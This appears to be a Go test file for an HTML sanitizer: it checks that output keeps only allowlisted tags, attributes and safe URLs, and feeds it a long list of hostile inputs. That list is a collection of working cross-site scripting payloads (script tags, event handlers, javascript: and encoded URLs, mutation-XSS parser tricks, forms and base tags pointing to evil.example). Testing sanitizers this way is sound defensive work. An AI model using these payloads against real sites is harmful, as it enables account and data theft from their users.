package format

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// checkTokens fails unless out consists of nothing but text and balanced tags
// that can do no harm. It knows the policy on its own and not from the list of
// elements, so that a mistake there shows.
func checkTokens(t *testing.T, src, out string) {
	t.Helper()
	elements := strings.Fields(`a abbr address article aside audio b bdi bdo blockquote br caption cite code col colgroup
		data dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li
		mark menu meter nav ol p picture pre progress q rp rt ruby s samp section small source span strong sub summary sup
		table tbody td tfoot th thead time tr track u ul var video wbr`)
	attributes := strings.Fields(`abbr alt cite class colspan controls datetime default dir height high href kind label
		lang loop low max min muted open optimum poster rel reversed rowspan scope span src srclang start target title type
		value width`)
	voids := strings.Fields("br col hr img source track wbr")

	var open []string
	z := html.NewTokenizer(strings.NewReader(out))
	for z.Next() != html.ErrorToken {
		switch tok := z.Token(); tok.Type {
		case html.TextToken:
		case html.StartTagToken, html.SelfClosingTagToken:
			if !slices.Contains(elements, tok.Data) {
				t.Errorf("%q: element %s in %q", src, tok.Data, out)
			}
			if !slices.Contains(voids, tok.Data) {
				open = append(open, tok.Data)
			}
			for _, a := range tok.Attr {
				if !slices.Contains(attributes, a.Key) || !isHarmless(tok, a) {
					t.Errorf("%q: attribute %s=%q on %s in %q", src, a.Key, a.Val, tok.Data, out)
				}
			}
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				t.Fatalf("%q: unbalanced </%s> in %q", src, tok.Data, out)
			}
			open = open[:len(open)-1]
		default:
			t.Errorf("%q: %s in %q", src, tok, out)
		}
	}
	if len(open) > 0 {
		t.Errorf("%q: %q left open in %q", src, open, out)
	}
}

func isHarmless(tok html.Token, a html.Attribute) bool {
	switch a.Key {
	case "src", "poster":
		head, _, _ := strings.Cut(a.Val, ",")
		return strings.HasPrefix(head, "data:") && strings.HasSuffix(head, ";base64") && !strings.Contains(head, "svg") &&
			(strings.HasPrefix(head, "data:image/") || strings.HasPrefix(head, "data:audio/") ||
				strings.HasPrefix(head, "data:video/") || tok.Data == "track" && strings.HasPrefix(head, "data:text/vtt;"))
	case "href", "cite":
		u, err := url.Parse(a.Val)
		if err != nil || u.User != nil {
			return false
		}
		has := func(key, val string) bool { return slices.Contains(tok.Attr, html.Attribute{Key: key, Val: val}) }
		if a.Key == "href" && (!has("target", "_blank") || !has("rel", "noopener noreferrer nofollow ugc")) {
			return false
		}
		return (u.Scheme == "http" || u.Scheme == "https") && u.Host != "" || a.Key == "href" && (u.Scheme == "mailto" || u.Scheme == "tel")
	case "class":
		for class := range strings.FieldsSeq(a.Val) {
			if !slices.Contains(Classes(), class) {
				return false
			}
		}
		return a.Val != ""
	}
	return true
}

func TestHostileMarkupIsHarmless(t *testing.T) {
	for _, src := range hostile {
		checkMessage(t, src)
		checkMessage(t, strings.Repeat(src, 3))
		checkMessage(t, "<table><tr><td><b>"+src+"</b></table>")
		checkMessage(t, `<a href="https://example.com/">`+src+"</a>")
	}
}

// hostile is a selection of the OWASP filter evasion and the PortSwigger cheat
// sheets, and of mutation XSS published against other sanitizers.
var hostile = []string{
	// Plain and with odd spelling.
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<SCRIPT =">" SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<SCRIPT SRC=https://xss.example/xss.js?< B >`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"<script\x0c>alert(1)</script\x0c>",
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script><!--<script></script>alert(1)//--></script>`,
	`<script>x`,
	`</script><script>alert(1)</script>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + "`" + `=alert("XSS")>`,
	`<img src=x onerror=alert(1)>`,
	`<img/src=x/onerror=alert(1)>`,
	`<img src="x"onerror="alert(1)">`,
	"<img src=x onerror\n=\nalert(1)>",
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<b onmouseover=alert(1) onclick='alert(2)' style=x>hover</b>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1) autoplay>`,
	`<a href="x" onfocus=alert(1) autofocus tabindex=1 accesskey=x contenteditable popover=auto id=x>x</a>`,
	`<div data-x=1 slot=x is=x part=x itemscope draggable=true hidden inert>x</div>`,

	// Addresses.
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" &#14;  javascript:alert(1)">x</a>`,
	"<a href=\"jav\tascript:alert(1)\">x</a>",
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href="jav&Tab;ascript&colon;alert(1)">x</a>`,
	`<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>x</a>`,
	`<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>x</a>`,
	"<a href=\"java\x00script:alert(1)\">x</a>",
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="//evil.example/">x</a><a href="/r/x/purge">x</a><a href="?x">x</a><a href="#x">x</a>`,
	`<a href="https:evil.example">x</a><a href="https:///evil.example">x</a><a href="https:\\evil.example">x</a>`,
	`<a href="https://good.example\@evil.example/">x</a><a href="https://good.example@evil.example/">x</a>`,
	`<a href="blob:https://x/1">x</a><a href="file:///etc/passwd">x</a><a href="about:blank">x</a><a href="view-source:x">x</a>`,
	`<a href="https://x.example/" target=_self rel=opener ping=https://evil.example download=x.exe>x</a>`,
	`<a xlink:href="javascript:alert(1)">x</a>`,
	`<q cite="javascript:alert(1)">x</q><del cite="data:text/html,x">x</del>`,
	`<img src="javascript:alert(1)">`,
	`<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">`,
	`<img srcset="https://evil.example/x.png 1x" alt=x>`,
	`<picture><source srcset="https://evil.example/x.png"><img alt=x></picture>`,
	`<video poster="https://evil.example/x.png" src="https://evil.example/x.mp4" preload=auto></video>`,
	`<video poster="javascript:alert(1)"></video>`,
	`<track src="https://evil.example/x.vtt">`,
	`<table background="javascript:alert(1)"><td background="https://evil.example/x.png">x</table>`,
	`<body background="https://evil.example/x.png" onload=alert(1)>x`,

	`<video src="https://x%e2.example/a"></video><img src="https://x%0a%3cb%3e.example/">`,

	// Style.
	`<div style="background:url(https://evil.example/x.png)">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`,
	`<div style="color:red;position:fixed;top:0;left:0;width:100%;height:100%">x</div>`,
	`<div style="color:\72 ed;behavior:url(x.htc);-moz-binding:url(x)">x</div>`,
	`<div style="color:red}body{display:none">x</div>`,
	`<style>@import 'https://evil.example/x.css';</style>x`,
	`<style><img src="</style><img src=x onerror=alert(1)//">`,
	`<div class="btn m-c-red m-media purge">x</div>`,

	// Elements that load, send, or change the page.
	`<base href="https://evil.example/">x`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">x`,
	`<link rel=stylesheet href=https://evil.example/x.css imagesrcset=https://evil.example/x>x`,
	`<iframe src=javascript:alert(1)></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>x`,
	`<frameset><frame src="javascript:alert(1)"></frameset>x`,
	`<object data="data:text/html,<script>alert(1)</script>"><param name=x value=y></object>x`,
	`<embed src="https://evil.example/x.swf" allowscriptaccess=always>x`,
	`<applet code=x.class></applet>x`,
	`<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>Purge for everyone</button></form>`,
	`<form><form action=x></form><input form=x></form>x`,
	`<isindex type=image src=1 onerror=alert(1)>x`,
	`<marquee onstart=alert(1)>x</marquee><bgsound src=javascript:alert(1)>`,
	`<map name=x><area href=javascript:alert(1)></map><img usemap=#x>x`,
	`<form id=document><input id=cookie name=body></form><img name=getElementById><a id=a><a id=a name=b href=x>x</a>`,
	`<dialog open>x</dialog><template><img src=x onerror=alert(1)></template><slot name=x>x</slot>`,
	`<select><option>x</option></select><textarea></textarea><keygen autofocus onfocus=alert(1)>`,

	// Parsers that disagree.
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>`,
	`<title><a title="</title><img src=x onerror=alert(1)>">x`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">x</xmp>`,
	`<noembed><p title="</noembed><img src=x onerror=alert(1)>">x`,
	`<noframes><p title="</noframes><img src=x onerror=alert(1)>">x`,
	`<iframe><p title="</iframe><img src=x onerror=alert(1)>">x`,
	`<plaintext><script>alert(1)</script>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing><xmp>&lt;img src=x onerror=alert(1)&gt;</xmp>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<svg><p><style><img src="</style><img src=x onerror=alert(1)//">`,
	`<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>x`,
	`<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>x`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><svg><animate onbegin=alert(1)>`,
	`<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><?php echo 1 ?><%= x %>`,
	`<!DOCTYPE html [<!ENTITY x "y">]><!doctype x "<img src=x onerror=alert(1)>">`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!---><img src=x onerror=alert(1)>-->`,
	`<!-- x --!><img src=x onerror=alert(1)> -->`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<! x><img src=x onerror=alert(1)>`,
	`</ x><img src=x onerror=alert(1)>`,
	`<a title="x<!--"><img src="--><script>alert(1)</script>">`,
	"<a title=`x><img src=x onerror=alert(1)>`>x",
	`<div title="&quot;><script>alert(1)</script>">x</div>`,
	`&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;`,
	`&l<script></script>t;img src=x onerror=alert(1)&g<script></script>t;`,
	`<img src=x onerror=alert(1)//`,
	`<a href="https://x.example/`,
	`<b <script>alert(1)</script>>x`,
	"\xc0\xbcscript\xc0\xbealert(1)",
	"<b title='\u2028\u202e\ufeff'>\u202e\u2066x</b>",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	`</div></div></body></html><h1>Mayfly</h1>`,
}
